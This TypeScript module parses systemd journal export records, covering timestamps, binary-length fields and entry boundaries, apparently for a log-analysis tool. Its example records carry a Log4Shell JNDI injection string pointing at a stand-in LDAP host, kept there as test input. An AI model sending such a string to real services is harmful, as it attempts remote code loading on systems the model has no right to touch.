import { byteAt } from '../one-a-byte.ts'
import { readTime } from '../time/read-time.ts'
import type { LogFormat, RecordField } from './format.ts'

/**
 * What `journalctl -o export` and systemd-journal-remote write: a field a line, a blank line behind each record. A value
 * that is no plain text has its length, eight bytes, between its name and itself.
 */
export const journaldExport: LogFormat = {
  id: 'journald-export',
  summary: '`journalctl -o export`, values in bytes too; the message is read as what it is',
  definedBy: 'https://systemd.io/JOURNAL_EXPORT_FORMATS/#journal-export-format',
  examples: {
    reads: [
      {
        record:
          '__CURSOR=s=1\n__REALTIME_TIMESTAMP=1639283141000000\n_HOSTNAME=a\nMESSAGE=hello ${jndi:ldap://x.example/a}\n_PID=1\n',
        when: '2021-12-12T04:25:41Z',
      },
      {
        record:
          '__CURSOR=s=1\n__REALTIME_TIMESTAMP=1639283141000000\nMESSAGE\n\x1b\0\0\0\0\0\0\0a\n${jndi:ldap://x.example/a}\n_PID=1\n',
        when: '2021-12-12T04:25:41Z',
      },
    ],
    refuses: ['__CURSOR=s=1', 'MESSAGE=hello', '__REALTIME_TIMESTAMP=yesterday\nMESSAGE=a'],
  },
  read({ text }, { around }) {
    if (!text.startsWith('__')) return null
    const time = /(?:^|\n)__REALTIME_TIMESTAMP=(\d{13,17})(?:\n|$)/.exec(text)?.[1]
    if (time === undefined) return null
    return { when: readTime(time, around), from: null, request: null, userAgent: null, fields: fieldsOf(text) }
  },
  spans: {
    mark: '__CURSOR=',
    mayHold: () => true,
    around: (piece, place) => {
      for (let before = place, tried = 0; tried < mostTried; tried++) {
        const start = piece.lastIndexOf('__CURSOR=', before)
        if (start < 0) return null
        if (start === 0 || piece[start - 1] === '\n') {
          const end = endOfEntry(piece, start)
          if (end > place) return { start, end }
        }
        before = start - 1
      }
      return null
    },
  },
}

/** Attempts: values may hold what looks like the beginning of a record. */
const mostTried = 4
const mostFields = 256

/** Behind the last field of the entry that begins at `start`, by the lengths that it states; -1 if it is no entry. */
function endOfEntry(piece: string, start: number): number {
  let at = start
  for (let fields = 0; at < piece.length && piece[at] !== '\n'; fields++) {
    if (fields > mostFields) return -1
    const end = piece.indexOf('\n', at)
    if (end < 0) return piece.length
    const name = /[^=\n]{1,65}/y
    name.lastIndex = at
    if (!/^[A-Z_][A-Z\d_]{0,63}$/.test(name.exec(piece)?.[0] ?? '')) return -1
    at = piece[name.lastIndex] === '=' ? end + 1 : end + 1 + 8 + lengthAt(piece, end + 1) + 1
  }
  return Math.min(at, piece.length)
}

/** 64 bits, the lowest first. */
function lengthAt(piece: string, at: number): number {
  let length = 0
  for (let i = 7; i >= 0; i--) length = length * 256 + byteAt(piece, at + i)
  return Number.isSafeInteger(length) ? length : piece.length
}

/**
 * By the names at the beginnings of lines: characters are not the bytes that lengths count. So a value may be told in two,
 * which hides nothing.
 */
function fieldsOf(text: string): readonly RecordField[] {
  const fields: RecordField[] = []
  const names = /(?:^|\n)([A-Z_][A-Z\d_]{0,63})(?:=|\n[^]{1,8}?\0{5,7})/g
  let open: { readonly name: string; readonly from: number } | null = null
  const close = (to: number): void => {
    if (open !== null)
      fields.push({ name: open.name, value: text.slice(open.from, to), holdsRecord: open.name === 'MESSAGE' })
  }
  for (let match = names.exec(text); match !== null && fields.length < mostFields; match = names.exec(text)) {
    close(match.index)
    open = { name: match[1] ?? '', from: names.lastIndex }
  }
  close(/\n*$/.test(text.slice(-2)) ? text.trimEnd().length : text.length)
  return fields
}
